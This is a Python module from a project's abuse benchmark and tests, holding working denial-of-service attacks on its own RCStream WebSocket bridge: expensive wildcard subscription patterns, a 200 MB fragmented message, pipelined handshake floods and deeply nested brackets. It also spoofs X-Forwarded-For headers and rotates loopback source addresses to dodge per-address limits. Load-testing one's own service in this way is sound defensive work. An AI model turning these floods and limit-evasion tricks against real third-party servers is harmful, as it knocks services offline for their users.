"""Attacks on the RCStream bridge (issue 12), as blocking functions of the
standard library only: the abuse benchmark runs them in processes of their
own, the abuse tests (tests/test_abuse.py) in a subprocess.

Each returns a dict of counts. `headers` (e.g. {"X-Forwarded-For": "10.0.0.7"})
lets a run pose as another address when the daemon trusts
`[eventstreams] client_ip_header`.

    python -m bench.attacks_rcstream ATTACK HOST PORT [ARG]
"""
from __future__ import annotations

import base64
import json
import os
import socket
import struct
import sys
import time
from typing import Optional

Headers = Optional[dict[str, str]]


def _head_lines(headers: Headers) -> str:
    return "".join(f"{k}: {v}\r\n" for k, v in (headers or {}).items())


def _frame(opcode: int, payload: bytes, fin: bool = True) -> bytes:
    """A client frame, masked with a zero key (the payload stays as is, legal
    and cheap for huge payloads)."""
    head = bytes([(0x80 if fin else 0) | opcode])
    size = len(payload)
    if size < 126:
        head += bytes([0x80 | size])
    elif size < 1 << 16:
        head += bytes([0x80 | 126]) + struct.pack(">H", size)
    else:
        head += bytes([0x80 | 127]) + struct.pack(">Q", size)
    return head + b"\0\0\0\0" + payload


def _connect(host: str, port: int, timeout: float, source: str = "") -> socket.socket:
    """A TCP connection, from the local address `source` if given (another
    loopback address is another client to per-address limits)."""
    return socket.create_connection((host, port), timeout=timeout, source_address=(source, 0) if source else None)


class _WebSocket:
    """A bare RFC 6455 client: enough to send text and read what comes back."""

    def __init__(self, host: str, port: int, path: str, headers: Headers = None, timeout: float = 10,
                 source: str = ""):
        self.sock = _connect(host, port, timeout, source)
        key = base64.b64encode(os.urandom(16)).decode()
        self.sock.sendall((f"GET {path} HTTP/1.1\r\nHost: {host}:{port}\r\nUpgrade: websocket\r\n"
                           f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\n"
                           f"Sec-WebSocket-Version: 13\r\n{_head_lines(headers)}\r\n").encode())
        self.data = b""
        while b"\r\n\r\n" not in self.data:
            chunk = self.sock.recv(65536)
            if not chunk:
                raise ConnectionError("closed during the handshake")
            self.data += chunk
        head, _, self.data = self.data.partition(b"\r\n\r\n")
        if not head.startswith(b"HTTP/1.1 101"):
            raise ConnectionError(head.split(b"\r\n")[0].decode("latin-1"))
        self.close_code: Optional[int] = None

    def send(self, text: str) -> None:
        self.sock.sendall(_frame(1, text.encode()))

    def recv(self) -> Optional[str]:
        """The next text message (None once closed); answers pings."""
        while True:
            while len(self.data) >= 2:
                size, at = self.data[1] & 0x7F, 2
                if size == 126:
                    size, at = int.from_bytes(self.data[2:4], "big"), 4
                elif size == 127:
                    size, at = int.from_bytes(self.data[2:10], "big"), 10
                if len(self.data) < at + size:
                    break
                opcode, payload = self.data[0] & 0x0F, self.data[at:at + size]
                self.data = self.data[at + size:]
                if opcode == 8:
                    self.close_code = int.from_bytes(payload[:2], "big") if len(payload) >= 2 else 1005
                    return None
                if opcode == 1:
                    text = payload.decode("utf-8")
                    if text == "2":  # Engine.IO 4 ping
                        self.send("3")
                        continue
                    return text
            chunk = self.sock.recv(1 << 20)
            if not chunk:
                return None
            self.data += chunk

    def close(self) -> None:
        try:
            self.sock.close()
        except OSError:
            pass


def _eio4(host: str, port: int, headers: Headers, source: str = "") -> _WebSocket:
    """An Engine.IO 4 WebSocket connected to `/rc`."""
    ws = _WebSocket(host, port, "/socket.io/?EIO=4&transport=websocket", headers, source=source)
    opened = ws.recv()
    if opened is None or not opened.startswith("0"):
        raise ConnectionError(f"no open packet: {opened!r} (close {ws.close_code})")
    ws.send("40/rc,")
    return ws


def run_pattern_attack(host: str, port: int, seconds: float, patterns: int = 10, length: int = 60_000,
                       interval: float = 2.0, headers: Headers = None, source: str = "") -> dict:
    """Issue 12 item 2: every `interval`, swap the subscriptions of an EIO4
    WebSocket for `patterns` new patterns of `length` characters (`a*`
    repeated: expensive for fnmatch to translate and compile). A socket the
    server closes (a message over its size limit) is opened again, until
    `seconds` are over."""
    counts = {"messages": 0, "bytes": 0, "errors": 0, "acks": 0, "closed": 0, "refused": 0}
    deadline, n = time.monotonic() + seconds, 0
    while time.monotonic() < deadline:
        try:
            ws = _eio4(host, port, headers, source)
        except OSError:
            counts["refused"] += 1
            time.sleep(0.2)
            continue
        ws.sock.settimeout(0.2)
        previous: list[str] = []
        try:
            while time.monotonic() < deadline:
                n += 1
                current = [f"{n}.{i}." + "a*" * (length // 2) for i in range(patterns)]
                for message in ([f'42/rc,["unsubscribe",{json.dumps(previous)}]'] if previous else []) + \
                        [f'42/rc,1["subscribe",{json.dumps(current)}]']:
                    ws.send(message)
                    counts["messages"] += 1
                    counts["bytes"] += len(message)
                previous = current
                until = min(deadline, time.monotonic() + interval)
                while time.monotonic() < until:
                    try:
                        text = ws.recv()
                    except socket.timeout:
                        continue
                    if text is None:
                        raise ConnectionError("closed")
                    counts["errors"] += '"error"' in text
                    counts["acks"] += text.startswith("43/rc,")
        except OSError:
            counts["closed"] += 1
        finally:
            ws.close()
    return counts


def run_big_ws_message(host: str, port: int, size: int, fragment: int = 1 << 20, headers: Headers = None,
                       source: str = "") -> dict:
    """Issue 12 item 3: one text message of `size` bytes in fragments of
    `fragment` bytes on an EIO4 WebSocket. Returns the bytes the server took
    before it closed the connection, and its close code."""
    ws = _eio4(host, port, headers, source)
    sent, chunk = 0, b"x" * fragment
    try:
        while sent < size:
            part = chunk[: min(fragment, size - sent)]
            ws.sock.sendall(_frame(1 if sent == 0 else 0, part, fin=sent + len(part) >= size))
            sent += len(part)
    except OSError:
        pass  # the server closed: its close frame may still be readable
    try:
        ws.sock.settimeout(5)
        while ws.recv() is not None:
            pass
    except OSError:
        pass
    finally:
        ws.close()
    return {"sent": sent, "complete": sent >= size, "close_code": ws.close_code}


def run_handshake_flood(host: str, port: int, seconds: float, batch: int = 100, headers: Headers = None,
                        source: str = "") -> dict:
    """Issue 12 item 4: `GET /socket.io/1/` handshakes pipelined `batch` at a
    time over one keep-alive connection (a new one when the server closes it).
    Counts the answers by status."""
    request = (f"GET /socket.io/1/ HTTP/1.1\r\nHost: {host}\r\n{_head_lines(headers)}\r\n").encode()
    counts: dict = {"requests": 0, "connections": 0, "statuses": {}}
    deadline = time.monotonic() + seconds
    sock, data = None, b""
    while time.monotonic() < deadline:
        if sock is None:
            sock, data = _connect(host, port, 10, source), b""
            counts["connections"] += 1
        try:
            sock.sendall(request * batch)
            counts["requests"] += batch
            answered = 0
            while answered < batch:
                head_end = data.find(b"\r\n\r\n")
                if head_end < 0:
                    chunk = sock.recv(1 << 20)
                    if not chunk:
                        raise ConnectionError("closed")
                    data += chunk
                    continue
                head = data[:head_end].decode("latin-1").split("\r\n")
                length = next((int(line.split(":", 1)[1]) for line in head
                               if line.lower().startswith("content-length:")), 0)
                if len(data) < head_end + 4 + length:
                    chunk = sock.recv(1 << 20)
                    if not chunk:
                        raise ConnectionError("closed")
                    data += chunk
                    continue
                status = head[0].split()[1]
                counts["statuses"][status] = counts["statuses"].get(status, 0) + 1
                data = data[head_end + 4 + length:]
                answered += 1
        except OSError:
            sock.close()
            sock = None
    if sock is not None:
        sock.close()
    return counts


def run_deep_nesting(host: str, port: int, depth: int = 30_000, headers: Headers = None) -> dict:
    """Issue 12 item 8: an event nested `depth` brackets deep, over Socket.IO
    0.9 xhr-polling (the POST's answer) and an EIO4 WebSocket (what comes back)."""
    nested = "[" * depth + "]" * depth
    extra = _head_lines(headers)

    def http(method: str, path: str, body: bytes = b"") -> tuple[int, str, bytes]:
        with socket.create_connection((host, port), timeout=30) as s:
            s.sendall(f"{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n{extra}"
                      f"Content-Length: {len(body)}\r\n\r\n".encode() + body)
            data = b""
            while chunk := s.recv(65536):
                data += chunk
        head, _, payload = data.partition(b"\r\n\r\n")
        lines = head.decode("latin-1").split("\r\n")
        kind = next((line.split(":", 1)[1].strip() for line in lines if line.lower().startswith("content-type:")), "")
        return int(lines[0].split()[1]), kind, payload

    result: dict = {}
    status, _, body = http("GET", "/socket.io/1/")
    sid = body.decode().split(":")[0]
    packet = '5::/rc:{"name":"subscribe","args":' + nested + "}"
    status, kind, body = http("POST", f"/socket.io/1/xhr-polling/{sid}", packet.encode())
    result["polling"] = {"status": status, "content_type": kind, "body": body[:200].decode("utf-8", "replace")}
    status, kind, body = http("GET", f"/socket.io/1/xhr-polling/{sid}")
    result["polling_next"] = body[:200].decode("utf-8", "replace")
    ws = _eio4(host, port, headers)
    ws.sock.settimeout(5)
    try:
        ws.send("42/rc," + nested)
        ws.send('42/rc,2["subscribe","x"]')
        answers = []
        while True:
            text = ws.recv()
            if text is None:
                break
            answers.append(text[:200])
            if text.startswith("43/rc,2"):
                break
        result["websocket"] = {"answers": answers, "close_code": ws.close_code}
    except OSError as e:
        result["websocket"] = {"error": str(e), "close_code": ws.close_code}
    finally:
        ws.close()
    return result


ATTACKS = {
    "patterns": lambda host, port, arg, source: run_pattern_attack(host, port, float(arg or 10), source=source),
    # patterns that fit in a 64 KiB message: the pattern limits, not the message size, refuse them
    "patterns-in-64k": lambda host, port, arg, source: run_pattern_attack(host, port, float(arg or 10),
                                                                          length=6_000, source=source),
    "big-message": lambda host, port, arg, source: run_big_ws_message(host, port, int(arg or 200_000_000),
                                                                      source=source),
    "handshakes": lambda host, port, arg, source: run_handshake_flood(host, port, float(arg or 30), source=source),
    "nesting": lambda host, port, arg, source: run_deep_nesting(host, port, int(arg or 30_000)),
}


if __name__ == "__main__":
    # NAME HOST PORT [ARG [SOURCE]]: SOURCE, the local address to send from
    name, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    arg, source = (sys.argv[4:] + [None, ""])[:2]
    print(json.dumps(ATTACKS[name](host, port, arg or None, source or "")))
